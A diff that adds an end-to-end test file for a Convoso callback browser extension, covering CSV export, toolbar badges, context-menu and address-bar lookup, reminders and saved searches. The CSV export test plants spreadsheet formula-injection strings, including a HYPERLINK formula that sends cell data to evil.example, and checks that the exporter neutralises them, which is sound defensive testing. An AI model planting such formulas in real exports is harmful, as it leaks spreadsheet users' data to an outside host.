@@ -1,0 +1,232 @@
+import { readFile } from 'node:fs/promises';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { AGENTS } from '../../mock-api/catalog';
+import { FIXTURE_LEADS } from '../../mock-api/server';
+import { CSV_COLUMNS } from '../../utils/export/csv';
+import { launchExtension, type ExtensionSession } from './harness';
+
+// Issue 12's power tools in real Chromium, driven as an agent uses them. The
+// context menu, the address bar and alarms cannot be clicked from Playwright:
+// test builds expose the very handlers the browser calls on
+// `globalThis.__convosoPowerTools` in the service worker, and the tests call them there.
+
+declare const chrome: any;
+
+let ext: ExtensionSession | undefined;
+afterEach(async () => {
+  await ext?.close();
+  ext = undefined;
+});
+
+const searchRequests = () => ext!.api.requests.filter((r) => r.path === '/v1/callbacks/search');
+
+/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') row.push(cell), (cell = '');
+    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += ch;
+  }
+  if (cell || row.length) row.push(cell), rows.push(row);
+  return rows;
+}
+
+describe('Export CSV', () => {
+  it('exports every callback of a multi-page result from the popup, in a tab that outlives it', async () => {
+    ext = await launchExtension();
+    const pastDue = ext.api.dataset.callbacks.filter((c) => c.stageKey === 'PASTDUE');
+    expect(pastDue.length).toBeGreaterThan(2000);
+    // Comments a spreadsheet would run as formulas.
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(A1:A9)', '-2+3', '@cmd', '\t=1', '\r=2'];
+    const hostileIds = hostile.map((text, i) => {
+      const record = pastDue[i * 400]!.record;
+      record.comments = text;
+      return record.id;
+    });
+    // Slow enough answers that the progress shows.
+    ext.api.setFaults({ latencyMs: 300 });
+
+    const popup = await ext.openPage('popup.html');
+    await popup.getByLabel('Stage', { exact: true }).selectOption('PASTDUE');
+    const tabOpened = ext.context.waitForEvent('page', { predicate: (p) => p.url().includes('/search.html') });
+    await popup.getByRole('button', { name: 'Export CSV' }).click();
+    const tab = await tabOpened;
+    const downloaded = tab.waitForEvent('download', { timeout: 60_000 });
+    // The popup is gone; the export goes on in the tab.
+    if (!popup.isClosed()) await popup.close();
+    await tab.getByText(/^Exporting… [\d,]+ of 2,\d{3} callbacks$/).waitFor();
+    expect(await tab.getByRole('progressbar').count()).toBe(1);
+    expect(await tab.getByRole('button', { name: 'Cancel export' }).isVisible()).toBe(true);
+
+    const download = await downloaded;
+    expect(download.suggestedFilename()).toMatch(/^callbacks-\d{4}-\d{2}-\d{2}-\d{4}\.csv$/);
+    const bytes = await readFile((await download.path())!);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const rows = parseCsv(bytes.toString('utf8').slice(1));
+    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
+    const body = rows.slice(1);
+    expect(body).toHaveLength(pastDue.length);
+    const idAt = rows[0]!.indexOf('Callback ID');
+    const commentsAt = rows[0]!.indexOf('Comments');
+    const timeAt = rows[0]!.indexOf('Callback time');
+    expect(body.map((r) => r[idAt]).sort()).toEqual(pastDue.map((c) => c.record.id).sort());
+    const byId = new Map(body.map((r) => [r[idAt], r]));
+    // The reader trims a comment's surrounding whitespace (a leading tab or CR);
+    // what a spreadsheet would run is neutralised, and no cell anywhere starts a formula.
+    expect(hostileIds.map((id) => byId.get(id)![commentsAt])).toEqual(hostile.map((text) => `'${text.trim()}`));
+    expect(body.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(body.every((r) => /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(r[timeAt]!))).toBe(true);
+
+    await tab.getByText(`Exported ${pastDue.length.toLocaleString('en-US')} callbacks.`).waitFor();
+    const exportPages = searchRequests().filter((r) => r.query.limit === '1000');
+    expect(exportPages.map((r) => [r.query.stage, r.query.offset])).toEqual([
+      ['PASTDUE', '0'],
+      ['PASTDUE', '1000'],
+      ['PASTDUE', '2000'],
+    ]);
+  });
+});
+
+describe('due callbacks on the toolbar icon', () => {
+  it('counts the agent’s pending and past-due callbacks up to today and follows the API’s data', async () => {
+    const agent = AGENTS[0]!;
+    ext = await launchExtension({ userId: agent.id });
+    const badgeText = () => ext!.worker.evaluate(() => chrome.action.getBadgeText({})) as Promise<string>;
+    expect(await badgeText()).toBe('');
+
+    const options = await ext.openPage('options.html');
+    await options.getByLabel('Show my due callbacks on the toolbar icon').check();
+    await expect.poll(() => searchRequests().length).toBe(2);
+    const [pending, pastDue] = searchRequests().map((r) => r.query);
+    const today = pending!.end_date!;
+    expect(pending).toMatchObject({ user_id: agent.id, stage: 'PENDING', limit: '1', end_date: new Date().toLocaleDateString('en-CA') });
+    expect(pastDue).toMatchObject({ user_id: agent.id, stage: 'PASTDUE', limit: '1', end_date: today });
+
+    const due = ext.api.dataset.callbacks.filter(
+      (c) => c.record.user === agent.id && (c.stageKey === 'PENDING' || c.stageKey === 'PASTDUE') && c.date <= today,
+    );
+    expect(due.some((c) => c.stageKey === 'PASTDUE')).toBe(true);
+    await expect.poll(badgeText).toBe(String(due.length));
+    // Red: something is past due.
+    expect(await ext.worker.evaluate(() => chrome.action.getBadgeBackgroundColor({}))).toEqual([179, 38, 30, 255]);
+    expect(await ext.worker.evaluate(() => chrome.alarms.get('due-count'))).toMatchObject({ periodInMinutes: 5 });
+
+    // The agent completes one in Convoso; the next alarm shows one fewer.
+    const done = due.find((c) => c.stageKey === 'PENDING') ?? due[0]!;
+    (done as { stageKey: string }).stageKey = 'COMPLETED';
+    await ext.worker.evaluate(() => (globalThis as any).__convosoPowerTools.refreshDueCount());
+    await expect.poll(badgeText).toBe(String(due.length - 1));
+
+    await options.getByLabel('Show my due callbacks on the toolbar icon').uncheck();
+    await expect.poll(badgeText).toBe('');
+    expect(await ext.worker.evaluate(() => chrome.alarms.get('due-count'))).toBeUndefined();
+  });
+
+  it('cannot be turned on before a user ID is saved', async () => {
+    ext = await launchExtension();
+    const options = await ext.openPage('options.html');
+    await options.getByText('Save your Convoso user ID above to use these').waitFor();
+    expect(await options.getByLabel('Show my due callbacks on the toolbar icon').isDisabled()).toBe(true);
+  });
+});
+
+describe('lookup from anywhere', () => {
+  const opened = (lead: string) =>
+    ext!.context.waitForEvent('page', { predicate: (p: Page) => p.url().endsWith(`/search.html?lead_id=${lead}`) });
+
+  it('the context menu on a selection and on a link opens the lead’s callbacks', async () => {
+    ext = await launchExtension();
+    expect(await ext.worker.evaluate(() => chrome.runtime.getManifest().permissions)).toContain('contextMenus');
+
+    let tab = opened(FIXTURE_LEADS.withCallbacks);
+    await ext.worker.evaluate(
+      (id) => (globalThis as any).__convosoPowerTools.onMenuClicked({ menuItemId: 'lead-from-selection', selectionText: `Lead #${id}` }),
+      FIXTURE_LEADS.withCallbacks,
+    );
+    const fromSelection = await tab;
+    await fromSelection.getByText('3 callbacks', { exact: true }).waitFor();
+
+    tab = opened(FIXTURE_LEADS.leadB);
+    const link = ext.crmUrl(`/crm/lead.html?lead_id=${FIXTURE_LEADS.leadB}`);
+    await ext.worker.evaluate(
+      (url) => (globalThis as any).__convosoPowerTools.onMenuClicked({ menuItemId: 'lead-from-link', linkUrl: url }),
+      link,
+    );
+    await (await tab).getByText('5 callbacks', { exact: true }).waitFor();
+  });
+
+  it('`cb 515151` in the address bar opens the lead’s callbacks', async () => {
+    ext = await launchExtension();
+    expect(await ext.worker.evaluate(() => chrome.runtime.getManifest().omnibox)).toEqual({ keyword: 'cb' });
+    const tab = opened(FIXTURE_LEADS.leadA);
+    await ext.worker.evaluate(
+      (text) => (globalThis as any).__convosoPowerTools.onOmniboxEntered(text, 'newForegroundTab'),
+      ` ${FIXTURE_LEADS.leadA} `,
+    );
+    await (await tab).getByText('2 callbacks', { exact: true }).waitFor();
+  });
+});
+
+describe('reminders', () => {
+  it('clicking a reminder opens the tab view on that callback', async () => {
+    ext = await launchExtension();
+    const record = ext.api.dataset.callbacks.find((c) => c.record.lead_id === FIXTURE_LEADS.withCallbacks)!.record;
+    const tab = ext.context.waitForEvent('page', { predicate: (p: Page) => p.url().endsWith(`/search.html?lead_id=${record.lead_id}&id=${record.id}`) });
+    const handled = await ext.worker.evaluate(
+      (id) => (globalThis as any).__convosoPowerTools.onReminderClicked(id),
+      `callback-reminder:${record.lead_id}:${record.id}`,
+    );
+    expect(handled).toBe(true);
+    await (await tab).getByText('1 callback', { exact: true }).waitFor();
+  });
+});
+
+describe('saved searches', () => {
+  it('saves the current filters, runs one in a click, renames, reorders and deletes', async () => {
+    ext = await launchExtension();
+    let popup = await ext.openPage('popup.html');
+    await popup.getByText('Save or edit searches').click();
+    await popup.getByLabel('Stage', { exact: true }).selectOption('PASTDUE');
+    await popup.getByLabel('Name for the current filters').fill('Overdue');
+    await popup.getByRole('button', { name: 'Save search' }).click();
+    await popup.getByLabel('Stage', { exact: true }).selectOption('');
+    await popup.getByLabel('Lead ID').fill(FIXTURE_LEADS.leadB);
+    await popup.getByLabel('Name for the current filters').fill('Lead B');
+    await popup.getByRole('button', { name: 'Save search' }).click();
+    const runRow = popup.getByRole('list', { name: 'Run a saved search' });
+    await expect.poll(() => runRow.getByRole('button').allTextContents()).toEqual(['Overdue', 'Lead B']);
+
+    await popup.getByRole('button', { name: 'Move Lead B up' }).click();
+    await popup.getByRole('button', { name: 'Rename Overdue' }).click();
+    await popup.getByLabel('New name for Overdue').fill('Past due');
+    await popup.getByRole('button', { name: 'Save name' }).click();
+    await expect.poll(() => runRow.getByRole('button').allTextContents()).toEqual(['Lead B', 'Past due']);
+    await popup.close();
+
+    // Kept across popups; one click searches with the saved filters.
+    popup = await ext.openPage('popup.html');
+    ext.api.clearRequests();
+    await popup.getByRole('list', { name: 'Run a saved search' }).getByRole('button', { name: 'Past due' }).click();
+    await expect.poll(() => searchRequests().length).toBe(1);
+    expect(searchRequests()[0]!.query).toMatchObject({ stage: 'PASTDUE', offset: '0' });
+    expect(searchRequests()[0]!.query.lead_id).toBeUndefined();
+    expect(await popup.getByLabel('Stage', { exact: true }).inputValue()).toBe('PASTDUE');
+
+    await popup.getByText('Save or edit searches').click();
+    await popup.getByRole('button', { name: 'Delete Lead B' }).click();
+    await expect
+      .poll(() => popup.getByRole('list', { name: 'Run a saved search' }).getByRole('button').allTextContents())
+      .toEqual(['Past due']);
+  });
+});
